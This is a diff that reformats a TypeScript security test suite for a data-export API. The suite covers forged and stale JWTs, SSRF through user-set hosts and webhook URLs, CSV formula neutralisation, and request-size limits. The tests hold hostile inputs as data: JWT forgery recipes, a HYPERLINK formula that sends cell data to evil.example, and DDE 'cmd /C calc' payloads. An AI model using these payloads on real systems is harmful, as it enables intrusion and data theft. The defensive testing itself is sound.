@@ -32,19 +32,37 @@ const secret = (label: string) => {
 };
 
 function isProblem(response: ApiResponse): boolean {
-  return /^application\/problem\+json/.test(response.headers.get('content-type') ?? '') && response.body?.status === response.status && typeof response.body?.detail === 'string';
+  return (
+    /^application\/problem\+json/.test(response.headers.get('content-type') ?? '') &&
+    response.body?.status === response.status &&
+    typeof response.body?.detail === 'string'
+  );
 }
 
 beforeAll(async () => {
   stack = await startTestStack({ seedProfiles: 500, simulatorOptions: { CAMPAIGN_MONITOR_API_URL: { rateLimit: false } } });
   signingKey = stack.settings.AUTH_DEV_SIGNING_KEY!;
-  const connection = await stack.api.post('/connections', { name: 'Security fixture', type: 'campaign-monitor', secrets: { apiKey: secret('cm-key') }, sharing: 'contributors', privacyConsent: true });
+  const connection = await stack.api.post('/connections', {
+    name: 'Security fixture',
+    type: 'campaign-monitor',
+    secrets: { apiKey: secret('cm-key') },
+    sharing: 'contributors',
+    privacyConsent: true,
+  });
   expect(connection.status, connection.text).toBe(201);
   fixtures.connectionId = connection.body.id;
-  const created = await stack.api.post('/exports', { name: 'Security fixture', connectionId: fixtures.connectionId, segments: ['Segment_VIP'], mapping: { email: 'Email' }, details: { listId: 'security' } });
+  const created = await stack.api.post('/exports', {
+    name: 'Security fixture',
+    connectionId: fixtures.connectionId,
+    segments: ['Segment_VIP'],
+    mapping: { email: 'Email' },
+    details: { listId: 'security' },
+  });
   fixtures.exportId = created.body.id;
   fixtures.runId = (await stack.api.post(`/exports/${fixtures.exportId}/runs`)).body.runId;
-  const refresh = await stack.api.as(await stack.tokenFor('system', 'upstream')).post('/refreshes', { process: 'measures', status: 'running' });
+  const refresh = await stack.api
+    .as(await stack.tokenFor('system', 'upstream'))
+    .post('/refreshes', { process: 'measures', status: 'running' });
   fixtures.refreshId = refresh.body?.id ?? '0000000000000-00000000';
   fixtures.webhookId = await createWebhookKeepingSecret('Security fixture');
 }, 300_000);
@@ -58,7 +76,11 @@ async function createWebhookKeepingSecret(name: string): Promise<string> {
   const response = await fetch(`${stack.apiUrl}/webhooks`, {
     method: 'POST',
     headers: { authorization: `Bearer ${await stack.tokenFor('admin', 'alice')}`, 'content-type': 'application/json' },
-    body: JSON.stringify({ name, url: `${stack.webhookReceiver.url}/security`, events: ['run.failed', 'run.succeeded', 'run.partiallySucceeded'] }),
+    body: JSON.stringify({
+      name,
+      url: `${stack.webhookReceiver.url}/security`,
+      events: ['run.failed', 'run.succeeded', 'run.partiallySucceeded'],
+    }),
   });
   const body = (await response.json()) as { id: string; secret: string };
   expect(response.status).toBe(201);
@@ -75,30 +97,114 @@ afterAll(async () => {
 describe('bearer tokens', () => {
   const now = () => Math.floor(Date.now() / 1000);
   const key = () => new TextEncoder().encode(signingKey);
-  const valid = () => new SignJWT({ roles: ['admin'] }).setProtectedHeader({ alg: 'HS256', typ: 'JWT' }).setSubject('mallory').setIssuer('outflow-local').setAudience('outflow-api');
+  const valid = () =>
+    new SignJWT({ roles: ['admin'] })
+      .setProtectedHeader({ alg: 'HS256', typ: 'JWT' })
+      .setSubject('mallory')
+      .setIssuer('outflow-local')
+      .setAudience('outflow-api');
 
   it('refuses every malformed, forged, stale or misdirected token with 401, and role-less ones with 403', async () => {
     const cases: [string, () => Promise<string>, number][] = [
-      ['alg none (unsigned)', async () => new UnsecuredJWT({ roles: ['admin'] }).setSubject('mallory').setIssuer('outflow-local').setAudience('outflow-api').setExpirationTime('1h').encode(), 401],
-      ['alg none with the signature of a valid token', async () => {
-        const [, payload, signature] = (await valid().setExpirationTime('1h').sign(key())).split('.');
-        return `${Buffer.from(JSON.stringify({ alg: 'none', typ: 'JWT' })).toString('base64url')}.${payload}.${signature}`;
-      }, 401],
+      [
+        'alg none (unsigned)',
+        async () =>
+          new UnsecuredJWT({ roles: ['admin'] })
+            .setSubject('mallory')
+            .setIssuer('outflow-local')
+            .setAudience('outflow-api')
+            .setExpirationTime('1h')
+            .encode(),
+        401,
+      ],
+      [
+        'alg none with the signature of a valid token',
+        async () => {
+          const [, payload, signature] = (await valid().setExpirationTime('1h').sign(key())).split('.');
+          return `${Buffer.from(JSON.stringify({ alg: 'none', typ: 'JWT' })).toString('base64url')}.${payload}.${signature}`;
+        },
+        401,
+      ],
       ['wrong signature (another key)', async () => valid().setExpirationTime('1h').sign(randomBytes(32)), 401],
       ['signature cut off', async () => (await valid().setExpirationTime('1h').sign(key())).split('.').slice(0, 2).join('.') + '.', 401],
-      ['payload changed after signing', async () => {
-        const [header, , signature] = (await valid().setExpirationTime('1h').sign(key())).split('.');
-        const forged = Buffer.from(JSON.stringify({ roles: ['admin'], sub: 'root', iss: 'outflow-local', aud: 'outflow-api', exp: now() + 3600 })).toString('base64url');
-        return `${header}.${forged}.${signature}`;
-      }, 401],
-      ['HS512 (algorithm not allowed)', async () => new SignJWT({ roles: ['admin'] }).setProtectedHeader({ alg: 'HS512' }).setSubject('mallory').setIssuer('outflow-local').setAudience('outflow-api').setExpirationTime('1h').sign(new TextEncoder().encode(signingKey.padEnd(64, 'x'))), 401],
-      ['expired (beyond the 30 s clock tolerance)', async () => valid().setIssuedAt(now() - 7200).setExpirationTime(now() - 120).sign(key()), 401],
-      ['not yet valid (nbf in 2 minutes)', async () => valid().setNotBefore(now() + 120).setExpirationTime('1h').sign(key()), 401],
+      [
+        'payload changed after signing',
+        async () => {
+          const [header, , signature] = (await valid().setExpirationTime('1h').sign(key())).split('.');
+          const forged = Buffer.from(
+            JSON.stringify({ roles: ['admin'], sub: 'root', iss: 'outflow-local', aud: 'outflow-api', exp: now() + 3600 }),
+          ).toString('base64url');
+          return `${header}.${forged}.${signature}`;
+        },
+        401,
+      ],
+      [
+        'HS512 (algorithm not allowed)',
+        async () =>
+          new SignJWT({ roles: ['admin'] })
+            .setProtectedHeader({ alg: 'HS512' })
+            .setSubject('mallory')
+            .setIssuer('outflow-local')
+            .setAudience('outflow-api')
+            .setExpirationTime('1h')
+            .sign(new TextEncoder().encode(signingKey.padEnd(64, 'x'))),
+        401,
+      ],
+      [
+        'expired (beyond the 30 s clock tolerance)',
+        async () =>
+          valid()
+            .setIssuedAt(now() - 7200)
+            .setExpirationTime(now() - 120)
+            .sign(key()),
+        401,
+      ],
+      [
+        'not yet valid (nbf in 2 minutes)',
+        async () =>
+          valid()
+            .setNotBefore(now() + 120)
+            .setExpirationTime('1h')
+            .sign(key()),
+        401,
+      ],
       ['wrong issuer', async () => valid().setIssuer('https://evil.example').setExpirationTime('1h').sign(key()), 401],
       ['wrong audience', async () => valid().setAudience('another-api').setExpirationTime('1h').sign(key()), 401],
-      ['no subject', async () => new SignJWT({ roles: ['admin'] }).setProtectedHeader({ alg: 'HS256' }).setIssuer('outflow-local').setAudience('outflow-api').setExpirationTime('1h').sign(key()), 401],
-      ['no roles claim', async () => new SignJWT({}).setProtectedHeader({ alg: 'HS256' }).setSubject('mallory').setIssuer('outflow-local').setAudience('outflow-api').setExpirationTime('1h').sign(key()), 403],
-      ['unknown role only', async () => new SignJWT({ roles: ['superuser', 'Admin'] }).setProtectedHeader({ alg: 'HS256' }).setSubject('mallory').setIssuer('outflow-local').setAudience('outflow-api').setExpirationTime('1h').sign(key()), 403],
+      [
+        'no subject',
+        async () =>
+          new SignJWT({ roles: ['admin'] })
+            .setProtectedHeader({ alg: 'HS256' })
+            .setIssuer('outflow-local')
+            .setAudience('outflow-api')
+            .setExpirationTime('1h')
+            .sign(key()),
+        401,
+      ],
+      [
+        'no roles claim',
+        async () =>
+          new SignJWT({})
+            .setProtectedHeader({ alg: 'HS256' })
+            .setSubject('mallory')
+            .setIssuer('outflow-local')
+            .setAudience('outflow-api')
+            .setExpirationTime('1h')
+            .sign(key()),
+        403,
+      ],
+      [
+        'unknown role only',
+        async () =>
+          new SignJWT({ roles: ['superuser', 'Admin'] })
+            .setProtectedHeader({ alg: 'HS256' })
+            .setSubject('mallory')
+            .setIssuer('outflow-local')
+            .setAudience('outflow-api')
+            .setExpirationTime('1h')
+            .sign(key()),
+        403,
+      ],
       ['not a JWT', async () => 'not.a.jwt', 401],
     ];
     const outcomes: string[] = [];
@@ -117,9 +223,16 @@ describe('bearer tokens', () => {
       expect(response.status, header).toBe(401);
     }
     // The control: the same token, validly made, is accepted.
-    const accepted = await stack.api.as(undefined).get('/exports', { authorization: `Bearer ${await valid().setExpirationTime('1h').sign(key())}` });
+    const accepted = await stack.api
+      .as(undefined)
+      .get('/exports', { authorization: `Bearer ${await valid().setExpirationTime('1h').sign(key())}` });
     expect(accepted.status).toBe(200);
-    recordResult('security', 'jwt', { passed: true, title: 'JWT edge cases', checked: `${cases.length} forged/stale/misdirected tokens × 3 routes, 4 wrong schemes`, figures: outcomes.join('; ') });
+    recordResult('security', 'jwt', {
+      passed: true,
+      title: 'JWT edge cases',
+      checked: `${cases.length} forged/stale/misdirected tokens × 3 routes, 4 wrong schemes`,
+      figures: outcomes.join('; '),
+    });
   });
 });
 
@@ -139,14 +252,37 @@ describe('the role × route matrix', () => {
     for (const [path, item] of Object.entries(document.paths as Record<string, Record<string, any>>)) {
       for (const [method, operation] of Object.entries(item)) {
         const roles = operation['x-roles'] as string[];
-        operations.push({ method: method.toUpperCase(), path, operationId: operation.operationId, roles: roles.includes('anonymous') ? 'anonymous' : (roles as Role[]) });
+        operations.push({
+          method: method.toUpperCase(),
+          path,
+          operationId: operation.operationId,
+          roles: roles.includes('anonymous') ? 'anonymous' : (roles as Role[]),
+        });
       }
     }
     const clients = new Map<Role | 'none', ApiClient>();
     for (const role of ROLES) clients.set(role, stack.api.as(await stack.tokenFor(role, `matrix-${role}`)));
     clients.set('none', stack.api.as(undefined));
-    const throwawayExport = async () => (await stack.api.post('/exports', { name: 'Matrix throwaway', connectionId: fixtures.connectionId, segments: ['Segment_VIP'], mapping: { email: 'Email' }, details: { listId: 'matrix' } })).body.id as string;
-    const throwawayConnection = async () => (await stack.api.post('/connections', { name: 'Matrix throwaway', type: 'campaign-monitor', secrets: { apiKey: secret('matrix-key') }, sharing: 'contributors', privacyConsent: true })).body.id as string;
+    const throwawayExport = async () =>
+      (
+        await stack.api.post('/exports', {
+          name: 'Matrix throwaway',
+          connectionId: fixtures.connectionId,
+          segments: ['Segment_VIP'],
+          mapping: { email: 'Email' },
+          details: { listId: 'matrix' },
+        })
+      ).body.id as string;
+    const throwawayConnection = async () =>
+      (
+        await stack.api.post('/connections', {
+          name: 'Matrix throwaway',
+          type: 'campaign-monitor',
+          secrets: { apiKey: secret('matrix-key') },
+          sharing: 'contributors',
+          privacyConsent: true,
+        })
+      ).body.id as string;
     const throwawayWebhook = () => createWebhookKeepingSecret('Matrix throwaway');
     // Destructive calls get their own resource, so the fixtures survive for the next caller.
     const pathFor = async (operation: Operation, allowed: boolean) => {
@@ -170,7 +306,9 @@ describe('the role × route matrix', () => {
       for (const caller of [...ROLES, 'none'] as const) {
         const allowed = operation.roles === 'anonymous' || (caller !== 'none' && operation.roles.includes(caller));
         const path = await pathFor(operation, allowed);
-        const response = await clients.get(caller)!.request(operation.method, path, ['POST', 'PUT', 'PATCH'].includes(operation.method) ? { body: {} } : {});
+        const response = await clients
+          .get(caller)!
+          .request(operation.method, path, ['POST', 'PUT', 'PATCH'].includes(operation.method) ? { body: {} } : {});
         calls++;
         const label = `${caller} ${operation.method} ${path} → ${response.status}`;
         expect(response.status, `${label}: ${response.text}`).toBeLessThan(500);
@@ -207,12 +345,24 @@ const VENDOR_HOSTS: Record<string, RegExp> = {
 const VALID: Record<string, { settings: Record<string, unknown>; secrets: Record<string, string>; details: Record<string, unknown> }> = {
   'campaign-monitor': { settings: { clientId: 'client-1' }, secrets: { apiKey: 'k' }, details: { listId: 'list-1' } },
   iterable: { settings: { region: 'US' }, secrets: { apiKey: 'k' }, details: {} },
-  dotdigital: { settings: { region: 'auto' }, secrets: { username: 'apiuser@apiconnector.com', password: 'p' }, details: { addressBookId: 1 } },
+  dotdigital: {
+    settings: { region: 'auto' },
+    secrets: { username: 'apiuser@apiconnector.com', password: 'p' },
+    details: { addressBookId: 1 },
+  },
   mailchimp: { settings: {}, secrets: { apiKey: '0123456789abcdef-us6' }, details: { listId: 'list-1' } },
   linkedin: { settings: { adAccountId: '123', sourcePlatform: 'OUTFLOW' }, secrets: { accessToken: 't' }, details: {} },
-  'azure-blob': { settings: { accountUrl: 'https://account1.blob.core.windows.net', container: 'exports', folder: 'out' }, secrets: { sasToken: 'sv=2024&sig=x' }, details: {} },
+  'azure-blob': {
+    settings: { accountUrl: 'https://account1.blob.core.windows.net', container: 'exports', folder: 'out' },
+    secrets: { sasToken: 'sv=2024&sig=x' },
+    details: {},
+  },
   klaviyo: { settings: {}, secrets: { apiKey: 'pk_k' }, details: { listId: 'Xy1' } },
-  'google-ads': { settings: { customerId: '1234567890' }, secrets: { clientId: 'c', clientSecret: 's', refreshToken: 'r', developerToken: 'd' }, details: { userListId: '42' } },
+  'google-ads': {
+    settings: { customerId: '1234567890' },
+    secrets: { clientId: 'c', clientSecret: 's', refreshToken: 'r', developerToken: 'd' },
+    details: { userListId: '42' },
+  },
 };
 
 const HOSTILE = [
@@ -245,9 +395,18 @@ const HOST_FIELD = /url|endpoint|host|region|origin|domain/i;
 
 describe('SSRF: every URL, host and region a user can set', () => {
   it('refuses hostile hosts in connection settings, secrets and export details over HTTP (400)', { timeout: 300_000 }, async () => {
-    const catalog = (await stack.api.get('/destinations')).body as { type: string; connectionFields: { name: string; secret: boolean }[]; exportDetails: { name: string }[] }[];
+    const catalog = (await stack.api.get('/destinations')).body as {
+      type: string;
+      connectionFields: { name: string; secret: boolean }[];
+      exportDetails: { name: string }[];
+    }[];
     const types = catalog.map((entry) => entry.type);
-    expect(Object.keys(VALID).filter((type) => types.includes(type)).sort(), 'every destination has its valid example here').toEqual([...types].sort());
+    expect(
+      Object.keys(VALID)
+        .filter((type) => types.includes(type))
+        .sort(),
+      'every destination has its valid example here',
+    ).toEqual([...types].sort());
     let refused = 0;
     let accepted = 0;
     const acceptedHostFields: string[] = [];
@@ -256,26 +415,52 @@ describe('SSRF: every URL, host and region a user can set', () => {
       for (const field of entry.connectionFields) {
         for (const value of HOSTILE) {
           const where = field.secret ? 'secrets' : 'settings';
-          const body = { name: 'SSRF probe', type: entry.type, settings: valid.settings, secrets: valid.secrets, privacyConsent: true, [where]: { ...valid[where], [field.name]: value } };
+          const body = {
+            name: 'SSRF probe',
+            type: entry.type,
+            settings: valid.settings,
+            secrets: valid.secrets,
+            privacyConsent: true,
+            [where]: { ...valid[where], [field.name]: value },
+          };
           const response = await stack.api.post('/connections', body);
           expect(response.status, `${entry.type} ${where}.${field.name}=${value}: ${response.text}`).toBeLessThan(500);
           if (response.status === 400) refused++;
           else {
             accepted++;
-            if (HOST_FIELD.test(field.name) || (entry.type === 'mailchimp' && field.name === 'apiKey')) acceptedHostFields.push(`${entry.type} ${where}.${field.name}=${value} → ${response.status}`);
+            if (HOST_FIELD.test(field.name) || (entry.type === 'mailchimp' && field.name === 'apiKey'))
+              acceptedHostFields.push(`${entry.type} ${where}.${field.name}=${value} → ${response.status}`);
             if (response.status === 201) await stack.api.delete(`/connections/${response.body.id}`);
           }
         }
       }
       for (const field of entry.exportDetails.filter((detail) => HOST_FIELD.test(detail.name))) {
         // Details are checked when an export is saved; a connection of the type is needed first.
-        const connection = await stack.api.post('/connections', { name: 'SSRF details', type: entry.type, settings: valid.settings, secrets: valid.secrets, privacyConsent: true });
+        const connection = await stack.api.post('/connections', {
+          name: 'SSRF details',
+          type: entry.type,
+          settings: valid.settings,
+          secrets: valid.secrets,
+          privacyConsent: true,
+        });
         if (connection.status !== 201) continue;
         // The control: with valid details the export saves, so a 400 below is about the detail.
-        const control = await stack.api.post('/exports', { name: 'SSRF control', connectionId: connection.body.id, segments: ['Segment_VIP'], mapping: { email: 'Email' }, details: valid.details });
+        const control = await stack.api.post('/exports', {
+          name: 'SSRF control',
+          connectionId: connection.body.id,
+          segments: ['Segment_VIP'],
+          mapping: { email: 'Email' },
+          details: valid.details,
+        });
         if (control.status !== 201) continue;
         for (const value of HOSTILE) {
-          const response = await stack.api.post('/exports', { name: 'SSRF probe', connectionId: connection.body.id, segments: ['Segment_VIP'], mapping: { email: 'Email' }, details: { ...valid.details, [field.name]: value } });
+          const response = await stack.api.post('/exports', {
+            name: 'SSRF probe',
+            connectionId: connection.body.id,
+            segments: ['Segment_VIP'],
+            mapping: { email: 'Email' },
+            details: { ...valid.details, [field.name]: value },
+          });
           expect(response.status, `${entry.type} details.${field.name}=${value}: ${response.text}`).toBeLessThan(500);
           if (response.status === 400) refused++;
           else acceptedHostFields.push(`${entry.type} details.${field.name}=${value} → ${response.status}`);
@@ -292,64 +477,84 @@ describe('SSRF: every URL, host and region a user can set', () => {
     expect(acceptedHostFields).toEqual([]);
   });
 
-  it('calls nothing but the vendor’s own hosts, whatever the accepted values (adapters without a local origin)', { timeout: 300_000 }, async () => {
-    const calledHosts = new Map<string, Set<string>>();
-    let current = '';
-    const answer = (url: URL) => {
-      // dotdigital's discovery call names an endpoint: answer with a hostile one.
-      if (url.pathname.endsWith('/v2/account-info')) return Response.json({ id: 1, properties: [{ name: 'ApiEndpoint', type: 'String', value: 'https://evil.example' }] });
-      return Response.json({ message: 'Unauthorized' }, { status: 401 });
-    };
-    vi.stubGlobal('fetch', async (input: string | URL | Request) => {
-      const url = new URL(typeof input === 'string' ? input : input instanceof URL ? input.href : input.url);
-      const hosts = calledHosts.get(current) ?? new Set<string>();
-      hosts.add(url.hostname);
-      calledHosts.set(current, hosts);
-      return answer(url);
-    });
-    const bounded = <T>(promise: Promise<T>) => Promise.race([promise.catch(() => undefined), new Promise((resolve) => setTimeout(resolve, 5_000))]);
-    let probes = 0;
-    try {
-      for (const adapter of destinations as readonly DestinationAdapter[]) {
-        const valid = VALID[adapter.type];
-        expect(valid, `a valid example for ${adapter.type}`).toBeDefined();
-        // Storage exports go through the Azure SDK, not fetch: their account URL is allow-listed by the settings schema (checked over HTTP above).
-        if (adapter.exportKinds.includes('dataOut')) continue;
-        for (const [part, schema] of [['settings', adapter.connectionSettings], ['secrets', adapter.connectionSecrets], ['details', adapter.exportDetails]] as const) {
-          const fields = [...new Set([...Object.keys(valid![part]), ...Object.keys(((schema as unknown as { shape?: Record<string, unknown> }).shape ?? {}))])];
-          for (const field of fields) {
-            for (const value of HOSTILE) {
-              const candidate = { ...valid![part], [field]: value };
-              const parsed = schema.safeParse(candidate);
-              if (!parsed.success) continue;
-              current = adapter.type;
-              probes++;
-              const call: DestinationCall = {
-                settings: adapter.connectionSettings.parse(part === 'settings' ? candidate : valid!.settings),
-                secrets: adapter.connectionSecrets.parse(part === 'secrets' ? candidate : valid!.secrets),
-                details: adapter.exportDetails.parse(part === 'details' ? candidate : valid!.details),
-                apiOrigin: undefined,
-              };
-              const segment = { id: 'Segment_VIP', name: 'VIP', type: adapter.eligibleSegmentTypes[0]! };
-              await bounded(adapter.testConnection(call));
-              await bounded(adapter.prepareRun?.(call, { segments: [segment], segmentNames: ['VIP'], mappedFields: ['email'] }) ?? Promise.resolve());
-              await bounded(adapter.sendBatch({ ...call, segment }, [{ email: 'someone@example.com', fields: { firstName: 'A' } }]));
+  it(
+    'calls nothing but the vendor’s own hosts, whatever the accepted values (adapters without a local origin)',
+    { timeout: 300_000 },
+    async () => {
+      const calledHosts = new Map<string, Set<string>>();
+      let current = '';
+      const answer = (url: URL) => {
+        // dotdigital's discovery call names an endpoint: answer with a hostile one.
+        if (url.pathname.endsWith('/v2/account-info'))
+          return Response.json({ id: 1, properties: [{ name: 'ApiEndpoint', type: 'String', value: 'https://evil.example' }] });
+        return Response.json({ message: 'Unauthorized' }, { status: 401 });
+      };
+      vi.stubGlobal('fetch', async (input: string | URL | Request) => {
+        const url = new URL(typeof input === 'string' ? input : input instanceof URL ? input.href : input.url);
+        const hosts = calledHosts.get(current) ?? new Set<string>();
+        hosts.add(url.hostname);
+        calledHosts.set(current, hosts);
+        return answer(url);
+      });
+      const bounded = <T>(promise: Promise<T>) =>
+        Promise.race([promise.catch(() => undefined), new Promise((resolve) => setTimeout(resolve, 5_000))]);
+      let probes = 0;
+      try {
+        for (const adapter of destinations as readonly DestinationAdapter[]) {
+          const valid = VALID[adapter.type];
+          expect(valid, `a valid example for ${adapter.type}`).toBeDefined();
+          // Storage exports go through the Azure SDK, not fetch: their account URL is allow-listed by the settings schema (checked over HTTP above).
+          if (adapter.exportKinds.includes('dataOut')) continue;
+          for (const [part, schema] of [
+            ['settings', adapter.connectionSettings],
+            ['secrets', adapter.connectionSecrets],
+            ['details', adapter.exportDetails],
+          ] as const) {
+            const fields = [
+              ...new Set([
+                ...Object.keys(valid![part]),
+                ...Object.keys((schema as unknown as { shape?: Record<string, unknown> }).shape ?? {}),
+              ]),
+            ];
+            for (const field of fields) {
+              for (const value of HOSTILE) {
+                const candidate = { ...valid![part], [field]: value };
+                const parsed = schema.safeParse(candidate);
+                if (!parsed.success) continue;
+                current = adapter.type;
+                probes++;
+                const call: DestinationCall = {
+                  settings: adapter.connectionSettings.parse(part === 'settings' ? candidate : valid!.settings),
+                  secrets: adapter.connectionSecrets.parse(part === 'secrets' ? candidate : valid!.secrets),
+                  details: adapter.exportDetails.parse(part === 'details' ? candidate : valid!.details),
+                  apiOrigin: undefined,
+                };
+                const segment = { id: 'Segment_VIP', name: 'VIP', type: adapter.eligibleSegmentTypes[0]! };
+                await bounded(adapter.testConnection(call));
+                await bounded(
+                  adapter.prepareRun?.(call, { segments: [segment], segmentNames: ['VIP'], mappedFields: ['email'] }) ?? Promise.resolve(),
+                );
+                await bounded(adapter.sendBatch({ ...call, segment }, [{ email: 'someone@example.com', fields: { firstName: 'A' } }]));
+              }
             }
           }
         }
+      } finally {
+        vi.unstubAllGlobals();
       }
-    } finally {
-      vi.unstubAllGlobals();
-    }
-    const offending = [...calledHosts].flatMap(([type, hosts]) => [...hosts].filter((host) => !VENDOR_HOSTS[type]?.test(host)).map((host) => `${type} → ${host}`));
-    recordResult('security', 'ssrf-adapters', {
-      passed: offending.length === 0,
-      title: 'SSRF: adapters call only their vendor',
-      checked: 'every hostile value the schemas accept, in every setting, secret and detail, through testConnection, prepareRun and sendBatch with no local origin (fetch recorded); dotdigital’s discovery answered with a hostile endpoint; storage exports (Azure SDK) rely on the allow-listed account URL checked above',
-      figures: `${probes} probes; hosts called: ${[...calledHosts].map(([type, hosts]) => `${type}: ${[...hosts].join(', ')}`).join('; ')}${offending.length ? `; OFF THE ALLOW-LIST: ${offending.join(', ')}` : ''}`,
-    });
-    expect(offending).toEqual([]);
-  });
+      const offending = [...calledHosts].flatMap(([type, hosts]) =>
+        [...hosts].filter((host) => !VENDOR_HOSTS[type]?.test(host)).map((host) => `${type} → ${host}`),
+      );
+      recordResult('security', 'ssrf-adapters', {
+        passed: offending.length === 0,
+        title: 'SSRF: adapters call only their vendor',
+        checked:
+          'every hostile value the schemas accept, in every setting, secret and detail, through testConnection, prepareRun and sendBatch with no local origin (fetch recorded); dotdigital’s discovery answered with a hostile endpoint; storage exports (Azure SDK) rely on the allow-listed account URL checked above',
+        figures: `${probes} probes; hosts called: ${[...calledHosts].map(([type, hosts]) => `${type}: ${[...hosts].join(', ')}`).join('; ')}${offending.length ? `; OFF THE ALLOW-LIST: ${offending.join(', ')}` : ''}`,
+      });
+      expect(offending).toEqual([]);
+    },
+  );
 });
 
 /** Webhook targets (any public host is a fair target; loopback is allowed by the local stack): private, metadata, odd forms. */
@@ -380,30 +585,44 @@ const WEBHOOK_HOSTILE = [
 ];
 
 describe('SSRF: webhook URLs', () => {
-  it('refuses private, link-local, metadata and non-http(s) targets with a 400 naming body.url, on create and update', { timeout: 120_000 }, async () => {
-    const accepted: string[] = [];
-    for (const url of WEBHOOK_HOSTILE) {
-      const created = await stack.api.post('/webhooks', { name: 'SSRF probe', url, events: ['run.failed'] });
-      expect(created.status, `${url}: ${created.text}`).toBeLessThan(500);
-      if (created.status !== 400 || !created.body.errors?.some((error: { path: string }) => error.path === 'body.url')) accepted.push(`create ${url} → ${created.status}`);
-      const updated = await stack.api.patch(`/webhooks/${fixtures.webhookId}`, { url });
-      if (updated.status !== 400) accepted.push(`update ${url} → ${updated.status}`);
-    }
-    recordResult('security', 'ssrf-webhooks', {
-      passed: accepted.length === 0,
-      title: 'SSRF: webhook URLs refused',
-      checked: `${WEBHOOK_HOSTILE.length} hostile webhook URLs (private, link-local, metadata, IPv6-mapped/NAT64/6to4 forms, numeric hosts, credentials, other schemes) on POST and PATCH /webhooks; loopback is allowed only by the local stack's WEBHOOK_ALLOW_LOOPBACK`,
-      figures: accepted.length ? `ACCEPTED: ${accepted.join(', ')}` : `${WEBHOOK_HOSTILE.length * 2} requests, every one a 400 naming body.url`,
-    });
-    expect(accepted).toEqual([]);
-  });
+  it(
+    'refuses private, link-local, metadata and non-http(s) targets with a 400 naming body.url, on create and update',
+    { timeout: 120_000 },
+    async () => {
+      const accepted: string[] = [];
+      for (const url of WEBHOOK_HOSTILE) {
+        const created = await stack.api.post('/webhooks', { name: 'SSRF probe', url, events: ['run.failed'] });
+        expect(created.status, `${url}: ${created.text}`).toBeLessThan(500);
+        if (created.status !== 400 || !created.body.errors?.some((error: { path: string }) => error.path === 'body.url'))
+          accepted.push(`create ${url} → ${created.status}`);
+        const updated = await stack.api.patch(`/webhooks/${fixtures.webhookId}`, { url });
+        if (updated.status !== 400) accepted.push(`update ${url} → ${updated.status}`);
+      }
+      recordResult('security', 'ssrf-webhooks', {
+        passed: accepted.length === 0,
+        title: 'SSRF: webhook URLs refused',
+        checked: `${WEBHOOK_HOSTILE.length} hostile webhook URLs (private, link-local, metadata, IPv6-mapped/NAT64/6to4 forms, numeric hosts, credentials, other schemes) on POST and PATCH /webhooks; loopback is allowed only by the local stack's WEBHOOK_ALLOW_LOOPBACK`,
+        figures: accepted.length
+          ? `ACCEPTED: ${accepted.join(', ')}`
+          : `${WEBHOOK_HOSTILE.length * 2} requests, every one a 400 naming body.url`,
+      });
+      expect(accepted).toEqual([]);
+    },
+  );
 });
 
 // ---------------------------------------------------------------------------------------------
 
 describe('CSV downloads', () => {
   it('neutralise spreadsheet formulas (=, +, -, @, tab, CR) in every cell', { timeout: 180_000 }, async () => {
-    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=1+1', '=cmd|\' /C notepad\'!\'A1\''];
+    const formulas = [
+      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      "+1+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '=1+1',
+      "=cmd|' /C notepad'!'A1'",
+    ];
     const lake = BlobServiceClient.fromConnectionString(stack.azurite.connectionString).getContainerClient('lake');
     const model = await readModel(lake);
     const segment = listSegments(model).find((candidate) => candidate.id === 'Segment_VIP')!;
@@ -417,7 +636,13 @@ describe('CSV downloads', () => {
     const text = stringify(rows, { record_delimiter: '\n', quoted: true });
     await lake.getBlockBlobClient(blob!.blobName).upload(text, Buffer.byteLength(text));
 
-    const created = await stack.api.post('/exports', { name: 'Formulas', connectionId: fixtures.connectionId, segments: ['Segment_VIP'], mapping: { email: 'Email', firstName: 'FirstName' }, details: { listId: 'formulas' } });
+    const created = await stack.api.post('/exports', {
+      name: 'Formulas',
+      connectionId: fixtures.connectionId,
+      segments: ['Segment_VIP'],
+      mapping: { email: 'Email', firstName: 'FirstName' },
+      details: { listId: 'formulas' },
+    });
     const started = await stack.api.post(`/exports/${created.body.id}/runs`);
     const run = await eventually(
       async () => {
@@ -449,7 +674,13 @@ describe('CSV downloads', () => {
 
 describe('request size and rate limits', () => {
   it('answers 413 for bodies over 1 MB, with or without a Content-Length', async () => {
-    const big = JSON.stringify({ name: 'x', type: 'campaign-monitor', secrets: { apiKey: 'k' }, privacyConsent: true, padding: 'p'.repeat(MAX_BODY_BYTES) });
+    const big = JSON.stringify({
+      name: 'x',
+      type: 'campaign-monitor',
+      secrets: { apiKey: 'k' },
+      privacyConsent: true,
+      padding: 'p'.repeat(MAX_BODY_BYTES),
+    });
     const declared = await stack.api.request('POST', '/connections', { rawBody: big, headers: { 'content-type': 'application/json' } });
     expect(declared.status).toBe(413);
     expect(isProblem(declared)).toBe(true);
@@ -468,9 +699,17 @@ describe('request size and rate limits', () => {
     } as RequestInit);
     expect(streamed.status).toBe(413);
     expect(streamed.headers.get('content-type')).toMatch(/^application\/problem\+json/);
-    const under = await stack.api.request('POST', '/connections', { rawBody: JSON.stringify({ name: 'x', padding: 'p'.repeat(MAX_BODY_BYTES - 100) }), headers: { 'content-type': 'application/json' } });
+    const under = await stack.api.request('POST', '/connections', {
+      rawBody: JSON.stringify({ name: 'x', padding: 'p'.repeat(MAX_BODY_BYTES - 100) }),
+      headers: { 'content-type': 'application/json' },
+    });
     expect(under.status).toBe(400);
-    recordResult('security', 'request-size', { passed: true, title: 'Request size limit', checked: 'POST bodies of 1 MB + a little, with Content-Length and chunked; one just under', figures: 'over: 413 problem details both ways; under: 400 (validation), not 413' });
+    recordResult('security', 'request-size', {
+      passed: true,
+      title: 'Request size limit',
+      checked: 'POST bodies of 1 MB + a little, with Content-Length and chunked; one just under',
+      figures: 'over: 413 problem details both ways; under: 400 (validation), not 413',
+    });
   });
 
   it('answers 429 with Retry-After to one caller flooding the API, and not to the others', { timeout: 120_000 }, async () => {
@@ -538,11 +777,15 @@ describe('secrets and dependencies', () => {
     expect(patched.text).not.toContain(rotated);
     const tested = await stack.api.post(`/connections/${fixtures.connectionId}/test`);
     expect(tested.status).toBe(200);
